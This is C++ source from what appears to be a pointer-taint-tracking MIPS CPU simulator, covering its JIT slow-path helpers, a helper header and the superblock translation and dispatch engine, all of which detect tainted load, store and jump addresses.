  if (ea < c->text_end_ && ea + 4 > c->text_begin_) {
    c->invalidate_decode_range(ea, 4);
  }
  if (ea % 4 != 0) {
    c->fault("misaligned sw");
    return 1;
  }
  c->memory_.store_word(ea, val);
  ++st.instructions;
  if (blk->retired) {
    c->pc_ = u->pc + 4;
    return 1;  // block invalidated itself; resume through retranslation
  }
  return 0;
}

uint64_t JitRuntime::store_small_slow(Cpu* c, const MicroOp* u,
                                      const Block* blk) {
  CpuStats& st = c->stats_;
  --st.stores;
  --st.instructions;

  const Instruction& in = u->inst;
  c->pc_ = u->pc;
  const TaintedWord base = c->regs_.get(in.rs);
  const TaintedWord val = c->regs_.get(in.rt);
  const uint32_t ea = base.value + static_cast<uint32_t>(in.imm);
  ++st.stores;
  if (u->elide == 0 && base.tainted() &&
      c->detect_pointer(in, in.rs, base, AlertKind::kTaintedStoreAddress)) {
    return 1;
  }
  const uint32_t len = in.op == Op::kSh ? 2 : 1;
  const TaintedWord stored{
      val.value, static_cast<mem::TaintBits>(
                     val.taint & (((1u << len) - 1) * 0x1111u))};
  if (c->detect_annotation(in, ea, len, stored)) return 1;
  if (val.tainted()) ++st.tainted_stores;
  if (ea < c->text_end_ && ea + len > c->text_begin_) {
    c->invalidate_decode_range(ea, len);
  }
  if (in.op == Op::kSh) {
    if (ea % 2 != 0) {
      c->fault("misaligned sh");
      return 1;
    }
    c->memory_.store_half(ea, val);
  } else {
    c->memory_.store_byte(ea, {static_cast<uint8_t>(val.value),
                               mem::byte_planes(val.taint, 0)});
  }
  ++st.instructions;
  if (blk->retired) {
    c->pc_ = u->pc + 4;
    return 1;
  }
  return 0;
}

// ---------------------------------------------------------------------------
// Mid-block fused pairs
// ---------------------------------------------------------------------------

uint64_t JitRuntime::addr_lw_slow(Cpu* c, const MicroOp* u) {
  CpuStats& st = c->stats_;
  TaintUnit::Stats& tu = c->taint_unit_.stats_ref();
  --tu.evaluations;
  --st.alu_ops;
  --st.loads;
  st.instructions -= 2;

  mem::RegisterFile& regs = c->regs_;
  const Instruction& ai = u->inst;
  const Instruction& li = u->inst2;
  const TaintedWord a = regs.get(ai.rs);
  const uint32_t av = a.value + static_cast<uint32_t>(ai.imm);
  TaintedWord base;
  if (a.taint == 0) {
    ++tu.evaluations;
    base = TaintedWord{av};
    regs.set(ai.rt, base);
  } else {
    c->alu_write(ai, ai.rt, av, a, TaintedWord{static_cast<uint32_t>(ai.imm)},
                 true);
    base = regs.get(ai.rt);  // re-read: granularity may have widened taint
  }
  ++st.alu_ops;
  ++st.instructions;
  c->pc_ = u->pc + 4;
  const uint32_t ea = base.value + static_cast<uint32_t>(li.imm);
  ++st.loads;
  if (u->elide == 0 && base.tainted() &&
      c->detect_pointer(li, li.rs, base, AlertKind::kTaintedLoadAddress)) {
    return 1;
  }
  if (ea % 4 != 0) {
    c->fault("misaligned lw");
    return 1;
  }
  TaintedWord result = c->memory_.load_word(ea);
  if (c->policy_.per_word_taint) {
    result.taint = mem::widen_planes(result.taint);
  }
  if (result.tainted()) ++st.tainted_loads;
  regs.set(li.rt, result);
  ++st.instructions;
  return 0;
}

uint64_t JitRuntime::addr_sw_slow(Cpu* c, const MicroOp* u, const Block* blk) {
  CpuStats& st = c->stats_;
  TaintUnit::Stats& tu = c->taint_unit_.stats_ref();
  --tu.evaluations;
  --st.alu_ops;
  --st.stores;
  st.instructions -= 2;

  mem::RegisterFile& regs = c->regs_;
  const Instruction& ai = u->inst;
  const Instruction& si = u->inst2;
  const TaintedWord a = regs.get(ai.rs);
  const uint32_t av = a.value + static_cast<uint32_t>(ai.imm);
  TaintedWord base;
  if (a.taint == 0) {
    ++tu.evaluations;
    base = TaintedWord{av};
    regs.set(ai.rt, base);
  } else {
    c->alu_write(ai, ai.rt, av, a, TaintedWord{static_cast<uint32_t>(ai.imm)},
                 true);
    base = regs.get(ai.rt);
  }
  ++st.alu_ops;
  ++st.instructions;
  c->pc_ = u->pc + 4;
  const TaintedWord val = regs.get(si.rt);
  const uint32_t ea = base.value + static_cast<uint32_t>(si.imm);
  ++st.stores;
  if (u->elide == 0 && base.tainted() &&
      c->detect_pointer(si, si.rs, base, AlertKind::kTaintedStoreAddress)) {
    return 1;
  }
  const TaintedWord stored{val.value, val.taint};
  if (c->detect_annotation(si, ea, 4, stored)) return 1;
  if (val.tainted()) ++st.tainted_stores;
  if (ea < c->text_end_ && ea + 4 > c->text_begin_) {
    c->invalidate_decode_range(ea, 4);
  }
  if (ea % 4 != 0) {
    c->fault("misaligned sw");
    return 1;
  }
  c->memory_.store_word(ea, val);
  ++st.instructions;
  if (blk->retired) {
    c->pc_ = u->pc + 8;
    return 1;
  }
  return 0;
}

// ---------------------------------------------------------------------------
// Mid-block multiply/divide/hi-lo/taint primitives (always a helper call;
// the exit flush carries no constants for this kind, so it bumps its own)
// ---------------------------------------------------------------------------

void JitRuntime::muldiv(Cpu* c, const MicroOp* u) {
  mem::RegisterFile& regs = c->regs_;
  const Instruction& in = u->inst;
  const TaintedWord a = regs.get(in.rs);
  const TaintedWord b2 = regs.get(in.rt);
  switch (in.op) {
    case Op::kMult: {
      const int64_t p = static_cast<int64_t>(static_cast<int32_t>(a.value)) *
                        static_cast<int64_t>(static_cast<int32_t>(b2.value));
      const auto t = static_cast<mem::TaintBits>(a.taint | b2.taint);
      regs.set_lo(TaintedWord{static_cast<uint32_t>(p), t});
      regs.set_hi(TaintedWord{static_cast<uint32_t>(p >> 32), t});
      break;
    }
    case Op::kMultu: {
      const uint64_t p =
          static_cast<uint64_t>(a.value) * static_cast<uint64_t>(b2.value);
      const auto t = static_cast<mem::TaintBits>(a.taint | b2.taint);
      regs.set_lo(TaintedWord{static_cast<uint32_t>(p), t});
      regs.set_hi(TaintedWord{static_cast<uint32_t>(p >> 32), t});
      break;
    }
    case Op::kDiv: {
      const auto da = static_cast<int32_t>(a.value);
      const auto db = static_cast<int32_t>(b2.value);
      const auto t = static_cast<mem::TaintBits>(a.taint | b2.taint);
      if (db == 0) {
        regs.set_lo(TaintedWord{0, t});
        regs.set_hi(TaintedWord{0, t});
      } else {
        regs.set_lo(TaintedWord{static_cast<uint32_t>(da / db), t});
        regs.set_hi(TaintedWord{static_cast<uint32_t>(da % db), t});
      }
      break;
    }
    case Op::kDivu: {
      const auto t = static_cast<mem::TaintBits>(a.taint | b2.taint);
      if (b2.value == 0) {
        regs.set_lo(TaintedWord{0, t});
        regs.set_hi(TaintedWord{0, t});
      } else {
        regs.set_lo(TaintedWord{a.value / b2.value, t});
        regs.set_hi(TaintedWord{a.value % b2.value, t});
      }
      break;
    }
    case Op::kMfhi: regs.set(in.rd, regs.hi()); break;
    case Op::kMflo: regs.set(in.rd, regs.lo()); break;
    case Op::kMthi: regs.set_hi(a); break;
    case Op::kMtlo: regs.set_lo(a); break;
    case Op::kTaintSet:
      regs.set(in.rd, TaintedWord{a.value, static_cast<mem::TaintBits>(
                                               mem::kAllTainted |
                                               (a.taint & mem::kAddrMask))});
      break;
    default:  // kTaintClr
      regs.set(in.rd, TaintedWord{a.value, mem::kUntainted});
      break;
  }
  ++c->stats_.alu_ops;
  ++c->stats_.instructions;
}

// ---------------------------------------------------------------------------
// Terminators
// ---------------------------------------------------------------------------

void JitRuntime::branch_term(Cpu* c, const MicroOp* u) {
  mem::RegisterFile& regs = c->regs_;
  CpuStats& st = c->stats_;
  const Instruction& in = u->inst;
  const TaintedWord a = regs.get(in.rs);
  const TaintedWord b2 = regs.get(in.rt);
  ++st.branches;
  const auto sval = static_cast<int32_t>(a.value);
  bool taken = false;
  switch (in.op) {
    case Op::kBeq: taken = a.value == b2.value; break;
    case Op::kBne: taken = a.value != b2.value; break;
    case Op::kBlez: taken = sval <= 0; break;
    case Op::kBgtz: taken = sval > 0; break;
    case Op::kBltz: case Op::kBltzal: taken = sval < 0; break;
    default: taken = sval >= 0; break;
  }
  if (in.op == Op::kBltzal || in.op == Op::kBgezal) {
    regs.set(isa::kRa, TaintedWord{u->pc + 4, mem::kTextAddrMask});
  }
  if (c->policy_.compare_untaints &&
      (a.tainted() || regs.get(in.rt).tainted())) {
    regs.untaint(in.rs);
    if (in.op == Op::kBeq || in.op == Op::kBne) regs.untaint(in.rt);
    ++st.compare_untaints;
  }
  if (taken) {
    c->pc_ = u->pc + 4 + (static_cast<uint32_t>(in.imm) << 2);
    ++st.taken_branches;
  } else {
    c->pc_ = u->pc + 4;
  }
  ++st.instructions;
}

void JitRuntime::cmp_branch_term(Cpu* c, const MicroOp* u) {
  mem::RegisterFile& regs = c->regs_;
  CpuStats& st = c->stats_;
  TaintUnit::Stats& tu = c->taint_unit_.stats_ref();
  const TaintPolicy& policy = c->policy_;
  const Instruction& ci = u->inst;
  const Instruction& bi = u->inst2;
  const TaintedWord a = regs.get(ci.rs);
  TaintedWord b2;
  bool b_imm = false;
  uint8_t dest = 0;
  uint32_t v = 0;
  switch (ci.op) {
    case Op::kSlt:
      b2 = regs.get(ci.rt);
      dest = ci.rd;
      v = static_cast<int32_t>(a.value) < static_cast<int32_t>(b2.value) ? 1
                                                                         : 0;
      break;
    case Op::kSltu:
      b2 = regs.get(ci.rt);
      dest = ci.rd;
      v = a.value < b2.value ? 1 : 0;
      break;
    case Op::kSlti:
      b2 = TaintedWord{static_cast<uint32_t>(ci.imm)};
      b_imm = true;
      dest = ci.rt;
      v = static_cast<int32_t>(a.value) < ci.imm ? 1 : 0;
      break;
    default:  // kSltiu
      b2 = TaintedWord{static_cast<uint32_t>(ci.imm)};
      b_imm = true;
      dest = ci.rt;
      v = a.value < static_cast<uint32_t>(ci.imm) ? 1 : 0;
      break;
  }
  if ((a.taint | b2.taint) == 0) {
    ++tu.evaluations;
    if (policy.compare_untaints) {
      ++tu.compare_untaints;
      ++st.compare_untaints;
    }
    regs.set(dest, TaintedWord{v});
  } else {
    c->alu_write(ci, dest, v, a, b2, b_imm);
  }
  ++st.alu_ops;
  ++st.instructions;
  ++st.branches;
  const uint32_t cv = regs.get(bi.rs).value;
  const bool taken = u->aux ? cv != 0 : cv == 0;
  if (taken) {
    c->pc_ = u->pc + 8 + (static_cast<uint32_t>(bi.imm) << 2);
    ++st.taken_branches;
  } else {
    c->pc_ = u->pc + 8;
  }
  ++st.instructions;
}

void JitRuntime::jr_term(Cpu* c, const MicroOp* u) {
  const Instruction& in = u->inst;
  c->pc_ = u->pc;
  const TaintedWord a = c->regs_.get(in.rs);
  ++c->stats_.jumps;
  if (u->elide == 0 && a.tainted() &&
      c->detect_pointer(in, in.rs, a, AlertKind::kTaintedJumpTarget)) {
    return;
  }
  ++c->stats_.instructions;
  c->pc_ = a.value;
}

void JitRuntime::jalr_term(Cpu* c, const MicroOp* u) {
  const Instruction& in = u->inst;
  c->pc_ = u->pc;
  const TaintedWord a = c->regs_.get(in.rs);
  ++c->stats_.jumps;
  if (u->elide == 0 && a.tainted() &&
      c->detect_pointer(in, in.rs, a, AlertKind::kTaintedJumpTarget)) {
    return;
  }
  c->regs_.set(in.rd, TaintedWord{u->pc + 4, mem::kTextAddrMask});
  ++c->stats_.instructions;
  c->pc_ = a.value;
}

}  // namespace ptaint::cpu
