// Out-of-line slow paths called from JIT-emitted code (DESIGN.md §12).
//
// Each helper re-runs the reference micro-op logic (the superblock handler
// body) for one micro-op whose emitted fast path bailed out — tainted
// operand, memo miss, misalignment, store near text, detector site.
//
// Counter contract: the emitted block defers all fast-path counter bumps to
// its exit flushes, which add each retired micro-op's compile-time constant
// contribution.  A mid-block helper therefore *pre-subtracts* its own
// micro-op's constants before running the reference logic (which re-bumps
// the true amounts): if the block later exits normally, the final flush
// re-adds the constants and the net effect equals the reference; if the
// helper stops the machine, the emitted stop stub flushes the inclusive
// prefix — constants for every micro-op up to and including this one — and
// the pre-subtract cancels against it, leaving exactly the reference's
// partial bumps.  Terminator helpers run after the block has already
// flushed the preceding micro-ops, so they bump their own counters directly
// with no compensation.
//
// Status returns: 0 = continue in the block, 1 = leave host code (machine
// stopped, or a store retired this block — pc_ is final either way).
#pragma once

#include <cstdint>

#include "cpu/superblock.hpp"

namespace ptaint::cpu {

struct JitRuntime {
  using MicroOp = SuperblockEngine::MicroOp;
  using Block = SuperblockEngine::Block;

  // Mid-block, compensated.
  static void alu_slow(Cpu* c, const MicroOp* u, uint32_t v);
  static uint64_t lw_slow(Cpu* c, const MicroOp* u);
  static uint64_t load_other_slow(Cpu* c, const MicroOp* u);
  static uint64_t sw_slow(Cpu* c, const MicroOp* u, const Block* blk);
  static uint64_t store_small_slow(Cpu* c, const MicroOp* u, const Block* blk);
  static uint64_t addr_lw_slow(Cpu* c, const MicroOp* u);
  static uint64_t addr_sw_slow(Cpu* c, const MicroOp* u, const Block* blk);

  // Mid-block, always-helper (no emitted fast path, no compensation).
  static void muldiv(Cpu* c, const MicroOp* u);

  // Terminators (prefix already flushed; full reference logic, sets pc_).
  static void branch_term(Cpu* c, const MicroOp* u);
  static void cmp_branch_term(Cpu* c, const MicroOp* u);
  static void jr_term(Cpu* c, const MicroOp* u);
  static void jalr_term(Cpu* c, const MicroOp* u);
};

}  // namespace ptaint::cpu
