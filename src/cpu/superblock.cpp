#include "cpu/superblock.hpp"

#include <algorithm>

#include "cpu/jit/jit_engine.hpp"

namespace ptaint::cpu {

// Out-of-line: JitEngine is incomplete in the header.
SuperblockEngine::~SuperblockEngine() = default;

void SuperblockEngine::enable_jit() {
  if (jit_ == nullptr) jit_ = std::make_unique<JitEngine>(*this, cpu_);
}

const JitStats& SuperblockEngine::jit_stats() const {
  static const JitStats kZero{};
  return jit_ != nullptr ? jit_->stats() : kZero;
}

using isa::Instruction;
using isa::Op;
using mem::TaintedWord;

// ---------------------------------------------------------------------------
// Translation
// ---------------------------------------------------------------------------

namespace {

// Longest straight-line run translated into one block.  Big enough to cover
// real basic blocks (SPEC surrogates average well under 20 instructions);
// small enough that the budget tail fallback in advance() stays negligible.
constexpr uint32_t kMaxGuestInsts = 64;

bool is_terminator(Op op) {
  switch (op) {
    case Op::kBeq: case Op::kBne: case Op::kBlez: case Op::kBgtz:
    case Op::kBltz: case Op::kBgez: case Op::kBltzal: case Op::kBgezal:
    case Op::kJ: case Op::kJal: case Op::kJr: case Op::kJalr:
    case Op::kSyscall: case Op::kBreak:
      return true;
    default:
      return false;
  }
}

}  // namespace

SuperblockEngine::Block* SuperblockEngine::translate(uint32_t pc,
                                                     uint32_t idx0) {
  Cpu& c = cpu_;
  auto& dcache = c.decode_cache_;
  auto& dvalid = c.decode_valid_;

  // Decode through the Cpu's cache with step()'s exact fill rule, so the
  // cache ends up in the same state either engine would leave it in.
  const auto decode_at = [&](uint32_t j, uint32_t jpc) -> const Instruction& {
    if (!dvalid[j]) {
      dcache[j] = isa::decode(c.memory_.load_word(jpc).value);
      dvalid[j] = j < c.elide_bits_.size() && c.elide_bits_[j] ? 2 : 1;
    }
    return dcache[j];
  };
  const auto is_leader = [&](uint32_t j) {
    return j < c.leader_bits_.size() && c.leader_bits_[j] != 0;
  };

  auto blk = std::make_unique<Block>();
  blk->entry_pc = pc;
  uint32_t i = idx0;
  uint32_t cur = pc;
  bool terminated = false;

  while (!terminated) {
    if (i >= dvalid.size()) break;                // past the decode cache
    if (i != idx0 && is_leader(i)) break;         // static CFG block boundary
    if (blk->guest_len >= kMaxGuestInsts) break;  // size cap
    const Instruction& inst = decode_at(i, cur);
    if (inst.op == Op::kInvalid) {
      // Entry is invalid: let step() raise the identical fault.  Mid-block:
      // end before it; execution falls off and step() faults on re-entry.
      if (i == idx0) return nullptr;
      break;
    }

    MicroOp u;
    u.pc = cur;
    u.inst = inst;
    u.elide = dvalid[i] == 2 ? 1 : 0;

    // Peek at the following instruction for pair fusion.
    const Instruction* next = nullptr;
    const uint32_t j = i + 1;
    if (j < dvalid.size() && !is_leader(j) &&
        blk->guest_len + 2 <= kMaxGuestInsts) {
      const Instruction& nx = decode_at(j, cur + 4);
      if (nx.op != Op::kInvalid) next = &nx;
    }

    bool fused = false;
    if (next != nullptr) {
      if (inst.op == Op::kLui && next->op == Op::kOri &&
          next->rs == inst.rt && inst.rt != 0) {
        // lui rA, hi ; ori rB, rA, lo  →  one constant materialisation.
        u.kind = kLuiOri;
        u.inst2 = *next;
        u.value = (static_cast<uint32_t>(inst.imm & 0xffff) << 16) |
                  static_cast<uint32_t>(next->imm & 0xffff);
        u.aux = next->rt != inst.rt ? 1 : 0;  // rA outlives the pair
        fused = true;
      } else if ((inst.op == Op::kSlt || inst.op == Op::kSltu ||
                  inst.op == Op::kSlti || inst.op == Op::kSltiu) &&
                 (next->op == Op::kBeq || next->op == Op::kBne) &&
                 next->rt == 0) {
        const uint8_t dest =
            (inst.op == Op::kSlt || inst.op == Op::kSltu) ? inst.rd : inst.rt;
        if (dest != 0 && next->rs == dest) {
          // sltX d, ... ; beq/bne d, $zero  →  compare-and-branch.
          u.kind = kCmpBranch;
          u.inst2 = *next;
          u.aux = next->op == Op::kBne ? 1 : 0;
          fused = true;
          terminated = true;
        }
      } else if ((inst.op == Op::kAddi || inst.op == Op::kAddiu) &&
                 inst.rt != 0 && next->rs == inst.rt &&
                 (next->op == Op::kLw || next->op == Op::kSw)) {
        // addiu rA, rB, k ; lw/sw rX, off(rA)  →  addr-gen + access.
        u.kind = next->op == Op::kLw ? kAddrLw : kAddrSw;
        u.inst2 = *next;
        u.elide = dvalid[j] == 2 ? 1 : 0;  // the memory site's elision
        fused = true;
      }
    }

    if (fused) {
      blk->uops.push_back(u);
      ++blk->fused;
      blk->guest_len += 2;
      i += 2;
      cur += 8;
      continue;
    }

    if (is_terminator(inst.op)) {
      switch (inst.op) {
        case Op::kJ: u.kind = kJ; break;
        case Op::kJal: u.kind = kJal; break;
        case Op::kJr: u.kind = kJr; break;
        case Op::kJalr: u.kind = kJalr; break;
        case Op::kSyscall: u.kind = kSyscall; break;
        case Op::kBreak: u.kind = kBreak; break;
        default: u.kind = kBranch; break;
      }
      terminated = true;
    } else {
      switch (inst.op) {
        case Op::kSll: u.kind = kSllI; break;
        case Op::kSrl: u.kind = kSrlI; break;
        case Op::kSra: u.kind = kSraI; break;
        case Op::kSllv: u.kind = kSllvRR; break;
        case Op::kSrlv: u.kind = kSrlvRR; break;
        case Op::kSrav: u.kind = kSravRR; break;
        case Op::kAdd: case Op::kAddu: u.kind = kAddRR; break;
        case Op::kSub: case Op::kSubu: u.kind = kSubRR; break;
        case Op::kAnd: u.kind = kAndRR; break;
        case Op::kOr: u.kind = kOrRR; break;
        case Op::kXor: u.kind = kXorRR; break;
        case Op::kNor: u.kind = kNorRR; break;
        case Op::kSlt: u.kind = kSltRR; break;
        case Op::kSltu: u.kind = kSltuRR; break;
        case Op::kMult: case Op::kMultu: case Op::kDiv: case Op::kDivu:
        case Op::kMfhi: case Op::kMflo: case Op::kMthi: case Op::kMtlo:
        case Op::kTaintSet: case Op::kTaintClr:
          u.kind = kMulDiv;
          break;
        case Op::kAddi: case Op::kAddiu: u.kind = kAddI; break;
        case Op::kSlti: u.kind = kSltI; break;
        case Op::kSltiu: u.kind = kSltuI; break;
        case Op::kAndi: u.kind = kAndI; break;
        case Op::kOri: u.kind = kOrI; break;
        case Op::kXori: u.kind = kXorI; break;
        case Op::kLui:
          u.kind = kLui;
          u.value = static_cast<uint32_t>(inst.imm & 0xffff) << 16;
          break;
        case Op::kLw: u.kind = kLw; break;
        case Op::kLb: case Op::kLbu: case Op::kLh: case Op::kLhu:
          u.kind = kLoadOther;
          break;
        case Op::kSw: u.kind = kSw; break;
        case Op::kSb: case Op::kSh: u.kind = kStoreSmall; break;
        default: return nullptr;  // unreachable (kInvalid handled above)
      }
    }
    blk->uops.push_back(u);
    blk->guest_len += 1;
    i += 1;
    cur += 4;
  }

  if (blk->uops.empty()) return nullptr;
  if (!terminated) {
    MicroOp end;
    end.kind = kEnd;
    end.pc = cur;  // first PC not covered by this block
    blk->uops.push_back(end);
  }
  blk->byte_len = blk->guest_len * 4;

  Block* raw = blk.get();
  block_at_[idx0] = raw;
  blocks_.push_back(std::move(blk));
  ++stats_.blocks_translated;
  ++stats_.blocks;
  stats_.guest_instructions += raw->guest_len;
  stats_.uops += raw->uops.size();
  stats_.fused_pairs += raw->fused;
  return raw;
}

// ---------------------------------------------------------------------------
// Cache maintenance
// ---------------------------------------------------------------------------

void SuperblockEngine::ensure_capacity() {
  if (block_at_.size() != cpu_.decode_valid_.size()) reset();
}

void SuperblockEngine::reset() {
  ++gen_;
  blocks_.clear();
  graveyard_.clear();
  block_at_.assign(cpu_.decode_valid_.size(), nullptr);
  stats_.blocks = 0;
  stats_.guest_instructions = 0;
  stats_.uops = 0;
  stats_.fused_pairs = 0;
  // Every translation is gone, so no compiled body can be mid-execution:
  // the only safe point to rewind the code arena.
  if (jit_ != nullptr) jit_->on_reset();
}

void SuperblockEngine::flush_all() {
  if (blocks_.empty()) return;
  ++gen_;
  for (auto& blk : blocks_) {
    blk->retired = true;
    if (blk->host != nullptr && jit_ != nullptr) jit_->note_block_dropped(*blk);
    graveyard_.push_back(std::move(blk));
  }
  blocks_.clear();
  std::fill(block_at_.begin(), block_at_.end(), nullptr);
  stats_.blocks = 0;
  stats_.guest_instructions = 0;
  stats_.uops = 0;
  stats_.fused_pairs = 0;
}

void SuperblockEngine::on_invalidate(uint32_t addr, uint32_t len) {
  if (blocks_.empty() || len == 0) return;
  ++gen_;  // conservatively drops every chain memo, hit or not
  const uint32_t lo = addr;
  const uint32_t hi = addr + len;
  for (size_t i = 0; i < blocks_.size();) {
    Block* blk = blocks_[i].get();
    if (blk->entry_pc < hi && blk->entry_pc + blk->byte_len > lo) {
      blk->retired = true;
      if (blk->host != nullptr && jit_ != nullptr) jit_->note_block_dropped(*blk);
      block_at_[(blk->entry_pc - cpu_.text_begin_) / 4] = nullptr;
      --stats_.blocks;
      stats_.guest_instructions -= blk->guest_len;
      stats_.uops -= blk->uops.size();
      stats_.fused_pairs -= blk->fused;
      ++stats_.invalidations;
      // Keep the storage alive until the dispatch loop is between blocks:
      // the store that triggered this invalidation may live in `blk`.
      graveyard_.push_back(std::move(blocks_[i]));
      blocks_[i] = std::move(blocks_.back());
      blocks_.pop_back();
    } else {
      ++i;
    }
  }
}

// ---------------------------------------------------------------------------
// Dispatch loop
// ---------------------------------------------------------------------------

// Computed-goto threaded dispatch on GCC/Clang; a plain switch elsewhere
// (or with -DPTAINT_NO_COMPUTED_GOTO, which CI uses to keep the fallback
// compiling).  Handlers are written once and shared by both forms.
#if defined(__GNUC__) && !defined(PTAINT_NO_COMPUTED_GOTO)
#define PTAINT_THREADED_DISPATCH 1
#else
#define PTAINT_THREADED_DISPATCH 0
#endif

void SuperblockEngine::exec_block(Block& blk, uint64_t budget) {
  Cpu& c = cpu_;
  mem::RegisterFile& regs = c.regs_;
  CpuStats& st = c.stats_;
  Block* cur = &blk;
  const uint64_t entry_insts = st.instructions;
  TaintUnit::Stats& tu = c.taint_unit_.stats_ref();
  const TaintPolicy& policy = c.policy_;
  const MicroOp* u = blk.uops.data();

#if PTAINT_THREADED_DISPATCH
  // Order must match Kind exactly.
  static const void* const kLabels[kNumKinds] = {
      &&h_End, &&h_Lui,
      &&h_AddRR, &&h_SubRR, &&h_OrRR, &&h_NorRR, &&h_XorRR, &&h_AndRR,
      &&h_SltRR, &&h_SltuRR,
      &&h_SllI, &&h_SrlI, &&h_SraI, &&h_SllvRR, &&h_SrlvRR, &&h_SravRR,
      &&h_AddI, &&h_OrI, &&h_XorI, &&h_AndI, &&h_SltI, &&h_SltuI,
      &&h_MulDiv,
      &&h_Lw, &&h_LoadOther,
      &&h_Sw, &&h_StoreSmall,
      &&h_LuiOri, &&h_AddrLw, &&h_AddrSw,
      &&h_Branch, &&h_CmpBranch, &&h_J, &&h_Jal, &&h_Jr, &&h_Jalr,
      &&h_Syscall, &&h_Break,
  };
#define OP(name) h_##name:
#define NEXT()                 \
  do {                         \
    ++u;                       \
    goto* kLabels[u->kind];    \
  } while (0)
  goto* kLabels[u->kind];
#else
#define OP(name) case k##name:
#define NEXT()                 \
  do {                         \
    ++u;                       \
    goto dispatch_top;         \
  } while (0)
dispatch_top:
  switch (u->kind) {
#endif

  // -- block fall-off (leader boundary / size cap) --------------------------
  OP(End) {
    c.pc_ = u->pc;
    goto chain_next;
  }

  OP(Lui) {
    // Mirrors step(): a constant landing in the executable range carries
    // text provenance (`la label` expands to LUI/ORI of a code address).
    const mem::TaintBits lt =
        c.text_begin_ != 0 && u->value >= c.text_begin_ &&
                u->value < c.text_end_
            ? mem::kTextAddrMask
            : mem::kUntainted;
    regs.set(u->inst.rt, TaintedWord{u->value, lt});
    ++st.alu_ops;
    ++st.instructions;
    NEXT();
  }

  // -- three-register ALU (default Table 1 class: or-merge) -----------------
  // Fast path when both inputs are untainted: propagate() would return an
  // untainted or-merge, bumping only `evaluations` — reproduced inline.
#define ALU_RR(name, vexpr)                    \
  OP(name) {                                   \
    const Instruction& in = u->inst;           \
    const TaintedWord a = regs.get(in.rs);     \
    const TaintedWord b2 = regs.get(in.rt);    \
    const uint32_t v = (vexpr);                \
    if ((a.taint | b2.taint) == 0) {           \
      ++tu.evaluations;                        \
      regs.set(in.rd, TaintedWord{v});         \
    } else {                                   \
      c.alu_write(in, in.rd, v, a, b2, false); \
    }                                          \
    ++st.alu_ops;                              \
    ++st.instructions;                         \
    NEXT();                                    \
  }

  ALU_RR(AddRR, a.value + b2.value)
  ALU_RR(SubRR, a.value - b2.value)
  ALU_RR(OrRR, a.value | b2.value)
  ALU_RR(NorRR, ~(a.value | b2.value))
#undef ALU_RR

  // xor/and/slt classes bump their policy counters even for untainted
  // inputs (propagate counts rule applications, not rule effects), so the
  // fast paths replicate those bumps; the register untainting they imply
  // is a no-op on untainted registers.
  OP(XorRR) {
    const Instruction& in = u->inst;
    const TaintedWord a = regs.get(in.rs);
    const TaintedWord b2 = regs.get(in.rt);
    const uint32_t v = a.value ^ b2.value;
    if ((a.taint | b2.taint) == 0) {
      ++tu.evaluations;
      if (in.rs == in.rt && policy.xor_self_untaints) ++tu.xor_self_untaints;
      regs.set(in.rd, TaintedWord{v});
    } else {
      c.alu_write(in, in.rd, v, a, b2, false);
    }
    ++st.alu_ops;
    ++st.instructions;
    NEXT();
  }

  OP(AndRR) {
    const Instruction& in = u->inst;
    const TaintedWord a = regs.get(in.rs);
    const TaintedWord b2 = regs.get(in.rt);
    const uint32_t v = a.value & b2.value;
    if ((a.taint | b2.taint) == 0) {
      ++tu.evaluations;
      if (policy.and_zero_untaints) ++tu.and_zero_untaints;
      regs.set(in.rd, TaintedWord{v});
    } else {
      c.alu_write(in, in.rd, v, a, b2, false);
    }
    ++st.alu_ops;
    ++st.instructions;
    NEXT();
  }

#define ALU_CMP_RR(name, vexpr)                \
  OP(name) {                                   \
    const Instruction& in = u->inst;           \
    const TaintedWord a = regs.get(in.rs);     \
    const TaintedWord b2 = regs.get(in.rt);    \
    const uint32_t v = (vexpr);                \
    if ((a.taint | b2.taint) == 0) {           \
      ++tu.evaluations;                        \
      if (policy.compare_untaints) {           \
        ++tu.compare_untaints;                 \
        ++st.compare_untaints;                 \
      }                                        \
      regs.set(in.rd, TaintedWord{v});         \
    } else {                                   \
      c.alu_write(in, in.rd, v, a, b2, false); \
    }                                          \
    ++st.alu_ops;                              \
    ++st.instructions;                         \
    NEXT();                                    \
  }

  ALU_CMP_RR(SltRR, static_cast<int32_t>(a.value) < static_cast<int32_t>(
                                                        b2.value)
                        ? 1
                        : 0)
  ALU_CMP_RR(SltuRR, a.value < b2.value ? 1 : 0)
#undef ALU_CMP_RR

  // -- shifts (smear(0) == 0, so the untainted fast path is exact) ----------
#define ALU_SHIFT_I(name, vexpr)                                \
  OP(name) {                                                    \
    const Instruction& in = u->inst;                            \
    const TaintedWord a = regs.get(in.rt);                      \
    const uint32_t v = (vexpr);                                 \
    if (a.taint == 0) {                                         \
      ++tu.evaluations;                                         \
      regs.set(in.rd, TaintedWord{v});                          \
    } else {                                                    \
      c.alu_write(in, in.rd, v, a, TaintedWord{in.shamt}, true); \
    }                                                           \
    ++st.alu_ops;                                               \
    ++st.instructions;                                          \
    NEXT();                                                     \
  }

  ALU_SHIFT_I(SllI, a.value << in.shamt)
  ALU_SHIFT_I(SrlI, a.value >> in.shamt)
  ALU_SHIFT_I(SraI, static_cast<uint32_t>(static_cast<int32_t>(a.value) >>
                                          in.shamt))
#undef ALU_SHIFT_I

#define ALU_SHIFT_V(name, vexpr)               \
  OP(name) {                                   \
    const Instruction& in = u->inst;           \
    const TaintedWord a = regs.get(in.rt);     \
    const TaintedWord b2 = regs.get(in.rs);    \
    const uint32_t v = (vexpr);                \
    if ((a.taint | b2.taint) == 0) {           \
      ++tu.evaluations;                        \
      regs.set(in.rd, TaintedWord{v});         \
    } else {                                   \
      c.alu_write(in, in.rd, v, a, b2, false); \
    }                                          \
    ++st.alu_ops;                              \
    ++st.instructions;                         \
    NEXT();                                    \
  }

  ALU_SHIFT_V(SllvRR, a.value << (b2.value & 31))
  ALU_SHIFT_V(SrlvRR, a.value >> (b2.value & 31))
  ALU_SHIFT_V(SravRR, static_cast<uint32_t>(static_cast<int32_t>(a.value) >>
                                            (b2.value & 31)))
#undef ALU_SHIFT_V

  // -- immediate ALU --------------------------------------------------------
#define ALU_IMM(name, vexpr, bexpr)                                   \
  OP(name) {                                                          \
    const Instruction& in = u->inst;                                  \
    const TaintedWord a = regs.get(in.rs);                            \
    const uint32_t v = (vexpr);                                       \
    if (a.taint == 0) {                                               \
      ++tu.evaluations;                                               \
      regs.set(in.rt, TaintedWord{v});                                \
    } else {                                                          \
      c.alu_write(in, in.rt, v, a, TaintedWord{(bexpr)}, true);       \
    }                                                                 \
    ++st.alu_ops;                                                     \
    ++st.instructions;                                                \
